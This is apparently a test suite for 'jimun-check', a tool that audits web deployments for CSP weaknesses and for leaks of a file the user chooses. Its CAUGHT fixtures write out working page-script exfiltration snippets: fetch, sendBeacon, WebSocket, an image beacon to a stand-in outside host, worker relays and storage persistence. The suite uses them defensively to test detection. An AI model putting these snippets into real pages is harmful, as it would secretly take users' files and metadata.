/** `jimun-check` on a good deployment, and on bad ones that it must catch and name. */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { chromiumPath } from '../../tools/chromium.mjs';
import { WORKER_POLICY } from '../../tools/serve.mjs';
import { checkParts } from './fixtures/check-parts.mjs';
import { formPage, serveDeployment, thief } from './fixtures/deployment.mjs';
import { root } from './harness.mjs';

const skip = chromiumPath() ? false : 'SKIPPED: Chromium was not found; run: tools/setup.sh browser';

const { Runs, Traces, addressOf, dangerousScripts, judgePage, judgeSeal, judgeSession, localeFor, parseMeta, parsePolicies, plain, wireOf } =
  await checkParts(...['csp', 'page-policy', 'seal-header', 'runs', 'traces', 'words', 'session', 'wire'].map((name) => `check/src/${name}`), 'pkg/src/bin/terminal');

/** Starts the command with its own folder for temporary files, which must be empty afterwards. */
async function start(args, env = {}) {
  const temporary = await mkdtemp(join(tmpdir(), 'check-test-'));
  const child = spawn(process.execPath, [`${root}check/dist/jimun-check.js`, ...args], {
    env: { ...process.env, CHROMIUM: chromiumPath() ?? '', LANG: 'en_US.UTF-8', LC_ALL: '', ...env, TMPDIR: temporary }, stdio: ['ignore', 'pipe', 'pipe'],
  });
  const said = { out: '', err: '' };
  child.stdout.on('data', (chunk) => { said.out += chunk; });
  child.stderr.on('data', (chunk) => { said.err += chunk; });
  const ended = new Promise((resolve) => { child.once('close', (code) => resolve(code)); }).then(async (code) => {
    const left = await readdir(temporary);
    await rm(temporary, { recursive: true });
    return { code, ...said, left: left.filter((name) => name.startsWith('jimun-check-')) };
  });
  return { child, temporary, ended };
}

async function run(...args) {
  const { ended } = await start(args);
  return ended;
}

async function checked(bad, ...args) {
  const site = await serveDeployment(bad);
  try {
    const { code, out, left } = await run(`${site.origin}/`, '--json', ...(args.includes('--no-browser') ? [] : ['--time', '1']), ...args);
    assert.deepEqual(left, [], 'nothing is left behind');
    return { code, report: JSON.parse(out), site };
  } finally {
    await site.close();
  }
}

const failed = ({ findings }) => findings.filter(({ status }) => status === 'fail').map(({ check, reason }) => `${check}.${reason}`);
const unsure = ({ findings }) => findings.filter(({ status }) => status === 'unsure').map(({ check, reason }) => `${check}.${reason}`);
const of = ({ findings }, check) => findings.filter((each) => each.check === check);

test('a good deployment passes, is sent to, and is told so in both languages', { skip }, async () => {
  const { code, report, site } = await checked({}, '--submit', '#send', '--time', '5');
  assert.deepEqual([failed(report), unsure(report)], [[], []]);
  assert.equal(code, 0);
  assert.equal(report.outcome, 'pass');
  assert.equal(report.schema, 'jimun/check/1');
  assert.equal(site.received.length, 1, 'the form was really sent');
  assert.match(site.received[0].toString(), /jimun\/record\/1/);
  assert.match(of(report, 'files.same')[0].values.names, /worker\.js/);
  assert.match(of(report, 'files.same')[0].values.names, /heic\.wasm/);
  assert.equal(of(report, 'session.seal')[0].reason, 'sealed');
  assert.ok(of(report, 'session.submit')[0].values.urls.startsWith(`${site.origin}/sent`));
  const server = await serveDeployment();
  for (const [locale, words] of [['ko', /통과.*페이지: 정책/], ['en', /pass.*page: policy/]]) {
    const { out } = await run(server.origin, '--no-browser', '--lang', locale);
    assert.match(out, words);
  }
  await server.close();
});

test('without a browser it says what it did not look at', async () => {
  const { code, report } = await checked({}, '--no-browser');
  assert.deepEqual([failed(report), unsure(report), code], [[], [], 0]);
  assert.equal(report.browser, null);
  assert.ok(!report.findings.some(({ check }) => check.startsWith('session.')));
});

const flip = (bytes) => { const other = Buffer.from(bytes); other[other.length - 300] ^= 1; return other; };
/** Also bad without a browser. */
const SERVED = {
  'worker without its header': [{ workerHeaders: { 'Content-Security-Policy': undefined } }, ['worker.header.missing']],
  'worker whose header allows connections': [{ workerHeaders: { 'Content-Security-Policy': `${WORKER_POLICY}; connect-src *` } }, ['worker.header.wide']],
  'worker whose header lacks the sandbox': [{ workerHeaders: { 'Content-Security-Policy': WORKER_POLICY.replace('; sandbox', '') } }, ['worker.header.incomplete']],
  'worker of another type': [{ workerHeaders: { 'Content-Type': 'text/plain' } }, ['worker.type.other']],
  'worker that may not be kept': [{ workerHeaders: { 'Cache-Control': 'no-store' } }, ['worker.cache.short']],
  'worker with another comment': [{ change: { 'worker.js': (bytes) => Buffer.concat([bytes, Buffer.from('//')]) } }, ['worker.version.other', 'files.same.different']],
  'page without a policy': [{ policy: () => undefined }, ['page.policy.missing']],
  'page whose policy is in a template alone': [{
    policy: () => undefined,
    html: formPage({ extra: `<template><meta http-equiv="Content-Security-Policy" content="default-src 'none'"></template>` }),
  }, ['page.policy.missing']],
  'page that connects anywhere': [{ policy: (own) => own.replace(/connect-src [^;]*/, 'connect-src *') }, ['page.connections.wide']],
  'page with unsafe scripts': [{ policy: (own) => own.replace(/script-src [^;]*/, "script-src 'self' 'unsafe-inline' 'unsafe-eval'") }, ['page.scripts.wide']],
  'page without any jimun': [{ html: formPage({ control: '' }).replace(/<script.*<\/script>/, '') }, ['jimun.present.missing']],
};
for (const [name, [bad, expected]] of Object.entries(SERVED)) {
  test(`caught from outside: ${name}`, async () => {
    const { code, report } = await checked(bad, '--no-browser');
    assert.deepEqual(failed(report), expected);
    assert.equal(code, 1);
  });
}

const open = (own, origin) => own.replace(/connect-src [^;]*/, `connect-src 'self' ${origin.replace('http', 'ws')}`);
const base64 = "btoa(String.fromCharCode(...new Uint8Array(await file.arrayBuffer()).subarray(0, 3000)))";
const silent = 'session.silence.asked';
const steals = (body, more = {}) => ({ html: formPage({ extra: thief(body) }), policy: open, ...more });
/**
 * Which check must fail, which trace of the file it must name and in which encoding, and after how
 * many seconds.
 */
const CAUGHT = {
  'worker without its header': [{ workerHeaders: { 'Content-Security-Policy': undefined } }, ['worker.header.missing', 'session.seal.open', silent], undefined, '5'],
  // The page asks for it once more when a picture is chosen, whatever the picture is.
  'a changed module': [{ change: { 'heic.wasm': flip } }, ['files.same.different', silent]],
  'the file sent as it is': [steals("fetch('/x', { method: 'POST', body: file });"), [silent, 'session.traces.wire'], ['content']],
  'its bytes sent': [steals("fetch('/x', { method: 'POST', body: (await file.arrayBuffer()).slice(100, 140) });"), [silent, 'session.traces.carried'], ['content', 'raw']],
  'base64 in JSON': [steals(`fetch('/x', { method: 'POST', body: JSON.stringify({ a: 'b', data: ${base64} }) });`), [silent, 'session.traces.carried'], ['content', 'base64']],
  'the name in an address': [steals("fetch('/x?name=' + file.name);"), [silent, 'session.traces.carried'], ['name', 'raw']],
  'the size and the date': [steals("fetch('/x', { method: 'POST', body: JSON.stringify([file.size, file.lastModified]) });"), [silent, 'session.traces.carried', 'session.traces.carried'], ['size', 'raw']],
  'a beacon': [steals("navigator.sendBeacon('/x', (await file.arrayBuffer()).slice(0, 2000));"), [silent, 'session.traces.carried'], ['content', 'raw']],
  'a WebSocket': [steals("const socket = new WebSocket(location.origin.replace('http', 'ws')); socket.onopen = async () => socket.send(await file.arrayBuffer());"), [silent, 'session.traces.carried'], ['content', 'raw']],
  'the address of a picture': [steals(`new Image().src = '/x?d=' + encodeURIComponent(${base64});`), [silent, 'session.traces.carried'], ['content', 'base64']],
  'a worker of the page\'s own': [steals("new Worker('/thief.js').postMessage(file);", {
    files: { '/thief.js': "onmessage = async ({ data }) => fetch('/x', { method: 'POST', body: (await data.arrayBuffer()).slice(0, 5000) });" },
  }), [silent, 'session.traces.carried'], ['content', 'raw']],
  'what the page\'s policy stops': [steals("new Image().src = 'https://elsewhere.invalid/?name=' + file.name;", { policy: (own) => own }), ['session.traces.stopped'], ['name', 'raw']],
  'the name kept in localStorage': [steals("localStorage.setItem('last', file.name);"), ['session.storage.kept'], ['name']],
  'the file kept in IndexedDB': [steals("const open = indexedDB.open('x'); open.onupgradeneeded = () => open.result.createObjectStore('y').add(new Blob([file]), 1);"), ['session.storage.kept'], ['content']],
};
for (const [name, [bad, expected, trace, time = '1']] of Object.entries(CAUGHT)) {
  test(`caught in the browser: ${name}`, { skip }, async () => {
    const { code, report } = await checked(bad, '--time', time);
    assert.deepEqual([failed(report), unsure(report)], [expected, []]);
    assert.equal(code, 1);
    const named = report.findings.filter(({ check, status }) => status === 'fail' && /traces|storage/.test(check));
    if (trace) assert.ok(named.some(({ values }) => trace.every((each) => Object.values(values).some((value) => String(value).split(',').includes(each)))), JSON.stringify(named));
  });
}

test('a file input that would send the file is caught when the form is sent', { skip }, async () => {
  const { code, report, site } = await checked({ html: formPage({ control: '<input type="file" name="picture">' }) }, '--submit', '#send');
  assert.equal(code, 1);
  assert.ok(site.received.length === 1 && site.received[0].length > 50_000);
  assert.deepEqual(failed(report), ['jimun.present.missing', 'session.traces.carried', 'session.traces.wire']);
  assert.match(of(report, 'session.traces')[0].values.urls, /\/sent$/);
});

test('a page with nothing to choose is not passed', { skip }, async () => {
  const { code, report } = await checked({ html: '<!doctype html><title>empty</title>' });
  assert.equal(code, 1);
  assert.deepEqual([failed(report), unsure(report)], [['jimun.present.missing'], ['session.choose.noInput']]);
});

test('a file of one\'s own is chosen under another name, and nothing of its name is said', { skip }, async () => {
  const folder = await mkdtemp(join(tmpdir(), 'check-file-'));
  const path = join(folder, 'very-private.jpg');
  try {
    await writeFile(path, await readFile(`${root}tests/images/sklearn_china.jpg`));
    const site = await serveDeployment(steals("fetch('/x?name=' + file.name);"));
    const { code, out, err } = await run(site.origin, '--file', path, '--time', '1', '--json');
    await site.close();
    assert.equal(code, 1);
    assert.doesNotMatch(out + err, /very-private|check-file-/);
    assert.equal(of(JSON.parse(out), 'session.traces')[0].values.what, 'name');
    const missing = await run(site.origin, '--file', join(folder, 'gone.jpg'));
    assert.doesNotMatch(missing.out + missing.err, /gone|check-file-/);
    assert.equal(missing.code, 2);
  } finally {
    await rm(folder, { recursive: true });
  }
});

test('what cannot be checked has codes of its own', async () => {
  const { origin, close } = await serveDeployment();
  await close();
  const down = await run(origin, '--no-browser', '--json');
  assert.equal(down.code, 2);
  assert.equal(JSON.parse(down.out).error, 'unreachable');
  const none = await run(origin, '--browser', '/nowhere/chromium');
  assert.equal(none.code, 3);
  assert.match(none.err, /--no-browser/);
  for (const args of [[], ['scan'], ['check', origin], ['file:///etc/hosts'], [origin, '--nonsense'], [origin, '--lang', 'fr']]) {
    const { code, err } = await run(...args);
    assert.deepEqual([code, /jimun-check URL/.test(err)], [2, true], args.join(' '));
  }
  const help = await run('--help', '--lang', 'ko');
  assert.deepEqual([help.code, /종료 코드/.test(help.out)], [0, true]);
});

test('interrupted, it takes the browser and the profile with it', { skip }, async () => {
  const site = await serveDeployment();
  const { child, temporary, ended } = await start([site.origin]);
  while (!(await readdir(temporary)).some((name) => name.startsWith('jimun-check-'))) await new Promise((resolve) => { setTimeout(resolve, 20); });
  await new Promise((resolve) => { setTimeout(resolve, 500); });
  child.kill('SIGINT');
  const { code, left } = await ended;
  await site.close();
  assert.deepEqual([code, left], [130, []]);
});

const judged = (text) => judgePage(parsePolicies(text), false).filter(({ status }) => status === 'fail').map(({ word }) => word);

test('page policies are judged by what they let out', () => {
  const good = "default-src 'none'; script-src 'self'; worker-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'";
  assert.deepEqual(judged(good), []);
  for (const [from, to, word] of [
    ["script-src 'self'", "script-src 'self' 'unsafe-eval'", 'page.scripts.wide'],
    ["script-src 'self'", 'script-src https:', 'page.scripts.wide'],
    ["script-src 'self'", "script-src 'self' data:", 'page.scripts.wide'],
    ["connect-src 'self'", 'connect-src https://*:443', 'page.connections.wide'],
    ["connect-src 'self'", 'connect-src WSS:', 'page.connections.wide'],
    ["form-action 'self'; ", '', 'page.forms.missing'],
    ["base-uri 'none'", 'img-src *', 'page.resources.wide'],
  ]) assert.ok(judged(good.replace(from, to)).includes(word), to);
  assert.deepEqual(judged(good.replace("script-src 'self'", "script-src 'nonce-Abc=' 'unsafe-inline' 'strict-dynamic' https:")), [], 'what browsers do not heed beside a nonce');
  assert.deepEqual(judged(good.replace("; worker-src 'self'", '')), [], 'script-src stands in');
  assert.deepEqual(judged(`connect-src *, ${good}`), [], 'of several policies all must allow');
  assert.deepEqual(judged(`connect-src 'self'; connect-src *; ${good}`), [], 'the first of one name counts');
  assert.deepEqual(judged("script-src 'self'").sort(), ['page.base.missing', 'page.connections.missing', 'page.forms.missing', 'page.resources.wide']);
  assert.deepEqual(judgePage([], true).map(({ word }) => word), ['page.policy.reportOnly']);
  assert.deepEqual(parseMeta('sandbox; report-uri /x'), [], 'not heeded in a meta element');
  assert.ok(judged(`\u00a0${good}`).includes('page.resources.wide'), 'a blank that browsers do not know is part of the name');
  assert.deepEqual(dangerousScripts(["'self'", "'wasm-unsafe-eval'", '*.example.org']), []);
});

test('the seal is this header and no weaker one', () => {
  const problems = (header, reportOnly = null) => { const { missing, wide } = judgeSeal(header, reportOnly); return [...missing, ...wide]; };
  for (const good of [
    WORKER_POLICY, WORKER_POLICY.toUpperCase().replaceAll(/'[A-Z-]+'/g, (word) => word.toLowerCase()), `${WORKER_POLICY};`,
    `${WORKER_POLICY}; base-uri 'none'; connect-src 'none'; frame-ancestors 'self'`, `default-src 'self', ${WORKER_POLICY}`,
  ]) assert.deepEqual(problems(good), [], good);
  for (const [bad, problem] of [
    [`${WORKER_POLICY}; connect-src 'self'`, "connect-src 'self'"],
    [`${WORKER_POLICY}; worker-src blob:`, 'worker-src blob:'],
    [`${WORKER_POLICY} allow-same-origin`, 'sandbox allow-same-origin'],
    [`${WORKER_POLICY}; report-uri /r`, 'report-uri /r'],
    ["default-src 'none'; script-src 'wasm-unsafe-eval' 'self'; sandbox", "script-src 'wasm-unsafe-eval' 'self'"],
    ["default-src 'self'; script-src 'wasm-unsafe-eval'; sandbox", "default-src 'self'"],
    ["script-src 'wasm-unsafe-eval'; sandbox", "default-src 'none'"],
    ["default-src 'none'; sandbox", "script-src 'wasm-unsafe-eval'"],
    ["default-src 'none'; script-src 'wasm-unsafe-eval'", 'sandbox'],
    ['', WORKER_POLICY],
  ]) assert.deepEqual(problems(bad), [problem], bad);
  assert.deepEqual(problems(WORKER_POLICY, 'report-uri /r'), ['report-uri /r']);
});

test('sixteen equal bytes are found wherever they are, and fifteen are not', () => {
  const file = randomBytes(5000);
  const runs = new Runs(file);
  for (const at of [0, 1, 7, 8, 1234, 4984]) {
    // The bytes next to the run differ from the file's.
    const around = (length) => {
      const body = Buffer.concat([randomBytes(37), file.subarray(at, at + length), randomBytes(41)]);
      body[37 + length] = (file[at + length] ?? 0) ^ 1;
      if (at > 0) body[36] = file[at - 1] ^ 1;
      return body;
    };
    assert.equal(runs.find(around(16)), 37, `${at}`);
    assert.equal(runs.find(around(15)), undefined, `${at}`);
  }
  assert.equal(new Runs(Buffer.alloc(100)).find(Buffer.alloc(100)), undefined, 'zeros say nothing');
});

test('traces are found in every encoding that a page has at hand', () => {
  const bytes = randomBytes(200_123);
  bytes[4012] = 0x5c;
  const modified = new Date('2011-02-03T04:05:06.789Z');
  const traces = new Traces({ bytes, stem: 'jimun-check-0123456789ab', modified });
  const run = bytes.subarray(3001, 3025);
  const withBackslash = bytes.subarray(4000, 4024);
  const kinds = (body) => traces.find(Buffer.from(body)).map(({ trace }) => trace);
  const text = run.toString('latin1');
  for (const [name, body] of Object.entries({
    raw: run,
    multipart: Buffer.concat([Buffer.from('--x\r\n\r\n'), run, Buffer.from('\r\n--x--')]),
    hex: `id=${run.toString('hex')}`,
    'hex with an odd digit before': `a${run.toString('hex').toUpperCase()}`,
    percent: `d=${[...run].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')}`,
    numbers: JSON.stringify([...run]),
    'numbers with indices': JSON.stringify(new Uint8Array(run)),
    'binary string': text,
    'binary string in JSON': JSON.stringify({ text }),
    'binary string with a backslash in it': withBackslash.toString('latin1'),
    'the same in JSON': JSON.stringify({ text: withBackslash.toString('latin1') }),
    gzip: gzipSync(Buffer.concat([randomBytes(99), run])),
    'base64 in base64': Buffer.from(run.toString('base64')).toString('base64'),
    'base64 in lines': Buffer.concat([randomBytes(57), run, randomBytes(90)]).toString('base64').replace(/.{76}/g, '$&\r\n'),
    'address-safe base64': run.toString('base64url'),
  })) assert.deepEqual(kinds(body), ['content'], name);
  for (const before of [0, 1, 2, 3, 4]) {
    assert.deepEqual(kinds(`${'x'.repeat(before)}${Buffer.concat([randomBytes(before), run]).toString('base64')}`), ['content'], `alignment ${before}`);
  }
  assert.deepEqual(kinds(bytes.toString('utf8')), ['content'], 'read as text');
  assert.deepEqual(kinds('/x?n=JIMUN-CHECK-0123456789AB.png'), ['name']);
  assert.deepEqual(kinds(`n=${Buffer.from('jimun-check-0123456789ab.png').toString('base64')}`), ['name']);
  assert.deepEqual(kinds('{"size":200123}'), ['size']);
  for (const date of ['1296705906789', '1296705906', '2011-02-03T04:05:06.789Z']) assert.deepEqual(kinds(date), ['date'], date);
  for (const nothing of ['1200123', '200123a', '91296705906789', randomBytes(100_000), createHash('sha256').update(bytes).digest('hex')]) {
    assert.deepEqual(kinds(nothing), []);
  }
});

test('the browser\'s log is a second witness, also when it is cut off', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'check-log-'));
  const event = (type, source, params, phase = 1) => JSON.stringify({ type, phase, time: '1500', source: { id: source }, params });
  const url = 'https://portal.example/asked';
  const lines = [
    '{"constants": {"logEventTypes": {"SOCKET_BYTES_SENT": 1, "URL_REQUEST_START_JOB": 2, "HTTP_TRANSACTION_SEND_REQUEST": 3}, "timeTickOffset": 1000},',
    '"events": [', ...[
      event(1, 7, { bytes: Buffer.from('first half, ').toString('base64') }),
      event(2, 8, { url, initiator: 'https://portal.example' }), event(3, 8, {}), event(3, 8, {}, 2),
      event(2, 9, { url: 'https://portal.example/cached', initiator: 'https://portal.example' }),
      event(2, 10, { url: 'https://maker.example/', initiator: 'not an origin' }), event(3, 10, {}),
      event(1, 7, { bytes: Buffer.from('second half').toString('base64') }),
    ].map((line) => `${line},`), '{"type": 2, "par',
  ];
  await writeFile(join(folder, 'log'), lines.join('\n'));
  const wire = await wireOf(join(folder, 'log'));
  assert.equal(wire.bytes[0].toString(), 'first half, second half');
  assert.deepEqual(wire.asked, [{ url, atMs: 2500 }]);
  assert.equal(await wireOf(join(folder, 'none')), undefined);
  await rm(folder, { recursive: true });

  const visit = {
    browser: 'x', failure: undefined, file: { bytes: randomBytes(99), stem: 'abcdefgh', modified: new Date() }, requests: [], sent: [],
    control: { element: 1 }, state: { states: ['done'], records: 1, seal: 'sealed' }, done: true, kept: [], shut: [], wire,
  };
  const said = (watched) => judgeSession({ ...visit, watched }, true).filter(({ status }) => status !== 'pass').map(({ word }) => word);
  assert.deepEqual(said({ fromMs: 2000, untilMs: 3000 }), ['session.open.missed', 'session.silence.asked']);
  assert.deepEqual(said({ fromMs: 2600, untilMs: 3000 }), ['session.open.missed']);
  assert.deepEqual(judgeSession({ ...visit, watched: { fromMs: 0, untilMs: 0 }, wire: undefined }, true).filter(({ status }) => status !== 'pass'), []);
});

test('nothing that a server says steers the terminal, and addresses are said without what they may carry', () => {
  assert.equal(plain('a\u001b[31mb\u202ec\n'), 'a [31mb c ');
  assert.equal(addressOf(`https://a.example/x/${'q'.repeat(60)}?secret#y`), 'https://a.example/x/qqqqqqqqqqqq…?…');
  assert.deepEqual(['ko_KR.UTF-8', 'ko', 'kok_IN', 'C', ''].map((LANG) => localeFor([], { LANG })), ['ko', 'ko', 'en', 'en', 'en']);
  assert.deepEqual([['--lang', 'en'], ['--lang=en'], ['--lang', 'fr'], ['en']].map((args) => localeFor(args, { LC_ALL: 'ko_KR' })), ['en', 'en', 'ko', 'ko']);
});
